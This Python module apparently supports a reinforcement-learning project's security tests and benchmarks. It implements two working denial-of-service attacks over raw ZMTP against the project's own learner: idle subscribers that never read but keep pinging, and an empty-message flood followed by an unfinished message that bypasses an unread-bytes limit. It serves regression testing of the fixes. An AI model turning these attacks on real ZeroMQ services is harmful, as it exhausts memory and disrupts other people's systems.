"""Attacks on what a learner sends and on how it accounts what it has read, shared by tests/test_outbound_attacks.py,
tools/attack_figures.py and tools/soak.py (no pytest here).

- :func:`idle_subscribers`: subscribers that subscribe to everything and then read nothing, with a tiny receive
  window, while sending a ZMTP PING every few seconds so that the learner's heartbeats (``peer_timeout_s``) never
  take them for gone. Each one keeps weights queued in the learner: its share of the weights socket's queue
  (``SNDHWM``), the message its connection was writing, and the kernel's send buffer. 1,000 of them pinned
  +2,940 MiB of old weight versions (2.1 MB weights) and none was closed.
- :func:`credit_bypass`: a trajectory connection that first sends empty messages (2 bytes each on the wire), which
  the learner reads and rejects, then an unfinished multipart message. A guard that credits each message read with
  more bytes than it took on the wire (64, whatever its size) lets the connection hold that surplus in libzmq on top
  of ``max_unread_bytes_per_connection``, while the unread bytes it reports stay near 0.

Both speak ZMTP 3.0 over plain TCP sockets with the NULL mechanism (tests/attacks.py), so they measure the code before
and after a fix alike. Each returns a dict of figures; the learner's own counters are the caller's to read.
"""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Callable

from attacks import PeakRss, zmtp_frame

MIB = 1 << 20
GREETING_NULL = b"\xff" + b"\0" * 8 + b"\x7f" + bytes([3, 0]) + b"NULL".ljust(20, b"\0") + b"\0" + b"\0" * 31
PING = zmtp_frame(b"\x04PING\x00\x00", command=True)  # TTL 0: the learner keeps its own timeout
SUBSCRIBE_ALL = zmtp_frame(b"\x01")  # ZMTP 3.0: a subscription is a message of 1 and the topic ("": everything)


def zmtp_peer(host: str, port: int, socket_type: bytes, *, rcvbuf_bytes: int = 0, timeout_s: float = 5.0):
    """A TCP connection that has done ZMTP 3.0's greeting and NULL handshake as ``socket_type`` (the learner's READY
    is left unread). ``rcvbuf_bytes`` > 0: the receive buffer, set before connecting so that the window stays that
    small."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        if rcvbuf_bytes:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf_bytes)
        s.settimeout(timeout_s)
        s.connect((host, port))
        s.sendall(GREETING_NULL)
        got = b""
        while len(got) < 64:
            chunk = s.recv(64 - len(got))
            if not chunk:
                raise ConnectionError("the learner closed the connection during the greeting")
            got += chunk
        name = b"Socket-Type"
        ready = b"\x05READY" + bytes([len(name)]) + name + struct.pack(">I", len(socket_type)) + socket_type
        s.sendall(zmtp_frame(ready, command=True))
    except BaseException:
        s.close()
        raise
    return s


# ------------------------------------------------------------------------------------------------- class 3
def _closed_by_peer(socks: dict[int, socket.socket]) -> list[int]:
    """The descriptors among ``socks`` whose connection the learner reset or closed (POLLERR, POLLHUP, POLLRDHUP: data
    left unread keeps POLLIN set, so that says nothing)."""
    poller = select.poll()
    mask = select.POLLERR | select.POLLHUP | getattr(select, "POLLRDHUP", 0x2000)
    for fd in socks:
        poller.register(fd, mask)
    return [fd for fd, ev in poller.poll(0) if ev & mask]


def _ping_all(live: dict[int, socket.socket]) -> list[int]:
    """A PING on every connection; returns those that refused it (reset by the learner)."""
    gone = []
    for fd, s in live.items():
        try:
            s.send(PING, socket.MSG_DONTWAIT)
        except BlockingIOError:
            pass  # our own send buffer is full: the learner reads nothing more from us either; still open
        except OSError:
            gone.append(fd)
    return gone


def _subscriber(host: str, port: int, rcvbuf_bytes: int) -> socket.socket | None:
    try:
        s = zmtp_peer(host, port, b"SUB", rcvbuf_bytes=rcvbuf_bytes)
        s.sendall(SUBSCRIBE_ALL)
    except OSError:
        return None  # refused, or closed at once (the connection cap)
    s.setblocking(False)
    return s


class _Subscribers:
    """The attack's connections: those open, when each subscribed, and when the learner's cuts were seen."""

    def __init__(self, host: str, port: int, rcvbuf_bytes: int):
        self.host, self.port, self.rcvbuf_bytes = host, port, rcvbuf_bytes
        self.live: dict[int, socket.socket] = {}
        self.opened_at: dict[int, float] = {}
        self.cut_after: list[float] = []
        self.connected = self.refused = 0

    def open(self) -> None:
        s = _subscriber(self.host, self.port, self.rcvbuf_bytes)
        if s is None:
            self.refused += 1
            return
        self.connected += 1
        self.live[s.fileno()] = s
        self.opened_at[s.fileno()] = time.monotonic()

    def reap(self, ping: bool) -> None:
        """Find the connections the learner closed (with ``ping``: a PING on each first)."""
        gone = set(_ping_all(self.live)) if ping else set()
        for fd in gone | set(_closed_by_peer(self.live)):
            self.live.pop(fd).close()
            self.cut_after.append(time.monotonic() - self.opened_at[fd])

    def close(self) -> None:
        for s in self.live.values():
            s.close()

    def figures(self) -> dict:
        after = sorted(self.cut_after)
        return {
            "connected": self.connected,
            "refused": self.refused,
            "cut": len(after),
            "open_at_end": len(self.live),
            "cut_after_s_median": round(after[len(after) // 2], 2) if after else None,
            "cut_after_s_max": round(after[-1], 2) if after else None,
        }


def idle_subscribers(
    host: str,
    port: int,
    count: int,
    *,
    hold_s: float,
    spread_s: float = 0.0,
    ping_interval_s: float = 1.0,
    rcvbuf_bytes: int = 4096,
    rss_pid: int | None = None,
    until_all_cut: bool = True,
) -> dict:
    """Open ``count`` subscribers on the weights socket at ``host:port`` that never read (see the module docstring),
    evenly over ``spread_s`` seconds (so that each stalls on other weight versions than the one before), and hold
    them until ``hold_s`` seconds from the start, or (``until_all_cut``) until the learner has closed every one.

    Returns ``connected`` (handshakes done), ``refused``, ``cut`` (closed by the learner while held), ``open_at_end``,
    ``cut_after_s_median`` and ``cut_after_s_max`` (seconds from subscribing to the cut being seen; a PING every
    ``ping_interval_s`` finds it, so they are late by up to that), ``held_s`` and, with ``rss_pid``, that process's
    resident memory less what it was before the attack: ``rss_grown_mib`` at its peak, ``rss_end_grown_mib`` at the
    end (what it still holds)."""
    rss = PeakRss(rss_pid) if rss_pid is not None else None
    if rss is not None:
        rss.start()
    subs = _Subscribers(host, port, rcvbuf_bytes)
    t0 = next_ping = time.monotonic()
    try:
        while True:
            now = time.monotonic()
            opened = subs.connected + subs.refused
            if opened >= count and ((until_all_cut and not subs.live) or now - t0 >= hold_s):
                break
            while opened < count and (spread_s <= 0 or opened <= count * (now - t0) / spread_s):
                subs.open()
                opened += 1
            subs.reap(ping=now >= next_ping)
            next_ping = now + ping_interval_s if now >= next_ping else next_ping
            time.sleep(0.01)
    finally:
        held_s = time.monotonic() - t0
        if rss is not None:
            rss.__exit__()
            end = (rss.proc.memory_info().rss - rss.base) / MIB
        subs.close()
    return {
        "subscribers": count,
        **subs.figures(),
        "held_s": round(held_s, 2),
        "rss_grown_mib": round(rss.grown_mib, 1) if rss is not None else None,
        "rss_end_grown_mib": round(end, 1) if rss is not None else None,
    }


# ------------------------------------------------------------------------------------------------- class 4
def _cut_within(s: socket.socket, timeout_s: float, sample: Callable[[], None]) -> bool:
    """Whether the learner closes ``s`` within ``timeout_s`` (read: its heartbeats, then the end of the stream or a
    reset); ``sample()`` is called every 0.1 s meanwhile."""
    t0 = time.monotonic()
    s.settimeout(0.1)
    while time.monotonic() - t0 < timeout_s:
        sample()
        try:
            if not s.recv(65536):
                return True
        except TimeoutError:
            continue
        except OSError:
            return True
    return False


def _stream(s: socket.socket, chunk: bytes, total_bytes: int, deadline_s: float) -> tuple[int, bool]:
    """Write ``chunk`` over and over, whole, until ``total_bytes`` went out, the learner closed the connection, or
    ``deadline_s`` passed. Returns the bytes sent and whether the learner closed the connection."""
    s.settimeout(0.5)
    view, pos, sent, end = memoryview(chunk), 0, 0, time.monotonic() + deadline_s
    while (sent < total_bytes or pos) and time.monotonic() < end:
        try:
            n = s.send(view[pos:])
        except TimeoutError:
            continue
        except OSError:
            return sent, True
        sent, pos = sent + n, (pos + n) % len(chunk)
    return sent, False


def credit_bypass(
    host: str,
    port: int,
    *,
    empty_messages: int,
    hold_bytes: int,
    frame_bytes: int = 256 << 10,
    hold_s: float = 5.0,
    send_timeout_s: float = 300.0,
    rss_pid: int | None = None,
    learner_figures: Callable[[], dict] | None = None,
) -> dict:
    """On the trajectory socket at ``host:port``: ``empty_messages`` empty messages, then frames of ``frame_bytes``
    that all say "more follows" until ``hold_bytes`` went out or the learner closed the connection (all within
    ``send_timeout_s``: the learner reads the empty messages first); then the connection is held up to ``hold_s``
    seconds more, waiting for the learner to close it.

    Returns ``sent_bytes`` (of the unfinished message), ``cut`` (the learner closed the connection), ``cut_after_s``
    (from the end of the empty messages), ``credit_surplus_bytes_at_64`` (what a guard crediting 64 bytes a message
    gives the connection beyond the 2 bytes each took), with ``rss_pid`` ``rss_grown_mib``, and with
    ``learner_figures`` the most ``unread_bytes`` it reported while the connection was held (callers pass a function
    returning the learner's latest metrics record)."""
    rss = PeakRss(rss_pid) if rss_pid is not None else None
    unread = []

    def sample() -> None:
        if learner_figures is not None:
            unread.append(learner_figures().get("unread_bytes") or 0)

    s = zmtp_peer(host, port, b"PUSH")
    try:
        if rss is not None:
            rss.start()
        end = time.monotonic() + send_timeout_s
        _, cut = _stream(s, zmtp_frame(b"") * 65536, 2 * empty_messages, send_timeout_s)
        t0 = time.monotonic()
        sent = 0
        if not cut:
            sent, cut = _stream(s, zmtp_frame(b"\0" * frame_bytes, more=True), hold_bytes, end - t0)
        cut = cut or _cut_within(s, hold_s, sample)
        cut_after_s = round(time.monotonic() - t0, 2)
    finally:
        if rss is not None:
            rss.__exit__()
        s.close()
    return {
        "empty_messages": empty_messages,
        "credit_surplus_bytes_at_64": empty_messages * (64 - 2),
        "hold_bytes": hold_bytes,
        "sent_bytes": sent,
        "cut": cut,
        "cut_after_s": cut_after_s if cut else None,
        "unread_bytes_reported_max": max(unread) if unread else None,
        "rss_grown_mib": round(rss.grown_mib, 1) if rss is not None else None,
    }


# ---------------------------------------------------------------------------------------------- from a shell
def _last_metrics(logdir: str | None) -> Callable[[], dict] | None:
    if not logdir:
        return None
    from pathlib import Path

    from impala_async.learner.reports.metrics import read_metrics

    def last() -> dict:
        rows = read_metrics(Path(logdir) / "metrics.jsonl")
        return rows[-1] if rows else {}

    return last


def run_attack(kind: str, *, python: str, cwd=None, count: int = 1000, hold_s: float = 70.0) -> dict:
    """One attack against a fresh learner of the checkout ``cwd`` (``python -m impala_async`` there) with one honest
    actor, 2.1 MB weights (--hidden-sizes 512,512): "idle" (``count`` subscribers over 20 s, held ``hold_s``) or
    "credit" (4M empty messages, then 320 MiB unfinished, against the default 160 MiB bound); the attack's figures and
    the updates the learner made during it."""
    import tempfile
    from pathlib import Path

    from attacks_control import Target

    t = Target(Path(tempfile.mkdtemp(prefix=f"attack-{kind}-")), python, cwd, "--hidden-sizes", "512,512")
    try:
        before, t0 = t.last(), time.monotonic()
        host, port = t.listen.removeprefix("tcp://").rsplit(":", 1)
        if kind == "idle":
            got = idle_subscribers(host, int(port) + 1, count, hold_s=hold_s, spread_s=20.0, rss_pid=t.proc.pid)
        else:
            got = credit_bypass(
                host,
                int(port),
                empty_messages=4_000_000,
                hold_bytes=320 * MIB,
                hold_s=10.0,
                rss_pid=t.proc.pid,
                learner_figures=t.last,
            )
        after = t.last()
        got["updates_during"] = after.get("learner_steps", 0) - before.get("learner_steps", 0)
        got["attack_s"] = round(time.monotonic() - t0, 1)
        got["learner_alive"] = t.proc.poll() is None
        return got
    finally:
        t.close()


def main(argv: list[str] | None = None) -> None:
    """One attack against a running learner, its figures printed as one JSON line (BENCHMARKS section 8):

    python tests/attacks_outbound.py idle --address tcp://127.0.0.1:5556 --pid PID --count 1000 --spread-s 20
    python tests/attacks_outbound.py credit --address tcp://127.0.0.1:5555 --pid PID --logdir LOGDIR"""
    import argparse
    import json

    p = argparse.ArgumentParser(description=main.__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=("idle", "credit"))
    p.add_argument("--address", required=True, help="the weights address (idle), the trajectory address (credit)")
    p.add_argument("--pid", type=int, help="the learner's process id: its resident memory is measured")
    p.add_argument("--logdir", help="the learner's logdir (credit): the unread bytes it reports")
    p.add_argument("--count", type=int, default=1000, help="idle: subscribers")
    p.add_argument("--spread-s", type=float, default=20.0, help="idle: seconds over which they subscribe")
    p.add_argument("--hold-s", type=float, default=70.0, help="idle: seconds they are held; credit: after sending")
    p.add_argument("--empty-messages", type=int, default=4_000_000, help="credit")
    p.add_argument("--hold-bytes", type=int, default=320 * MIB, help="credit: the unfinished message's size")
    a = p.parse_args(argv)
    host, port = a.address.removeprefix("tcp://").rsplit(":", 1)
    if a.attack == "idle":
        figures = idle_subscribers(
            host, int(port), a.count, hold_s=a.hold_s, spread_s=a.spread_s, rss_pid=a.pid, until_all_cut=False
        )
    else:
        figures = credit_bypass(
            host,
            int(port),
            empty_messages=a.empty_messages,
            hold_bytes=a.hold_bytes,
            hold_s=a.hold_s,
            rss_pid=a.pid,
            learner_figures=_last_metrics(a.logdir),
        )
    print(json.dumps(figures), flush=True)


if __name__ == "__main__":
    main()
